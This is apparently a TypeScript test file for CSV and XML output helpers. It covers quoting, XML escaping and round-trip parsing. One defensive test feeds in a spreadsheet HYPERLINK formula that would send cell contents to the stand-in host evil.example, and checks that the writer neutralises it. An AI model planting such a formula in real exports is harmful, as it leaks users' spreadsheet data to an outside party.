import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { csvText, escapeXml, type CsvCell } from './text-formats.js';

/** One cell or row as written, without the record's line break. */
const csvField = (value: CsvCell) => csvText([[value]]).slice(0, -1);
const csvRow = (values: CsvCell[]) => csvText([values]).slice(0, -1);

test('csvField: quotes only when needed, doubling quotes', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('two\nlines'), '"two\nlines"');
  assert.equal(csvField(' padded'), '" padded"');
  assert.equal(csvField(null), '');
  assert.equal(csvRow(['x', 1, true, null]), 'x,1,true,');
});

test('escapeXml: markup, quotes, whitespace references, and characters XML 1.0 cannot hold', () => {
  assert.equal(
    escapeXml(`<a href="x" title='y'>&</a>`),
    '&lt;a href=&quot;x&quot; title=&apos;y&apos;&gt;&amp;&lt;/a&gt;',
  );
  assert.equal(escapeXml('a\tb\nc\rd'), 'a&#9;b&#10;c&#13;d');
  assert.equal(escapeXml('bell\u0007 nul\u0000 lone\uD800 ok😀'), 'bell\uFFFD nul\uFFFD lone\uFFFD ok😀');
});

test('csvField: a text cell a spreadsheet would evaluate starts with a quote (OWASP), numbers stay numbers', () => {
  assert.equal(
    csvField('=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
    `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
  );
  for (const head of ['=', '+', '-', '@']) assert.equal(csvField(`${head}1+1`), `'${head}1+1`);
  assert.equal(csvField('\t=1'), `'\t=1`);
  assert.equal(csvField('\r=1'), `"'\r=1"`);
  assert.equal(csvField('a=1'), 'a=1');
  assert.equal(csvField('\uFF1D1+1'), `'\uFF1D1+1`, 'a full-width = too (Apple Numbers reads it as =)');
  assert.equal(csvField(-3), '-3');
});

test('csvText: one line break per row, and a reader gets every cell back (with the formula quote)', () => {
  const rows: CsvCell[][] = [
    ['h1', 'h2', 'h3'],
    ['a,b', 'two\nlines', ' pad '],
    ['=1', 'say "hi"', 'crlf\r\n'],
    [1, false, null],
  ];
  const text = csvText(rows);
  assert.equal(text.split('\n').length, 4 + 2 + 1);
  assert.deepEqual(parse(text), [
    ['h1', 'h2', 'h3'],
    ['a,b', 'two\nlines', ' pad '],
    ["'=1", 'say "hi"', 'crlf\r\n'],
    ['1', 'false', ''],
  ]);
});
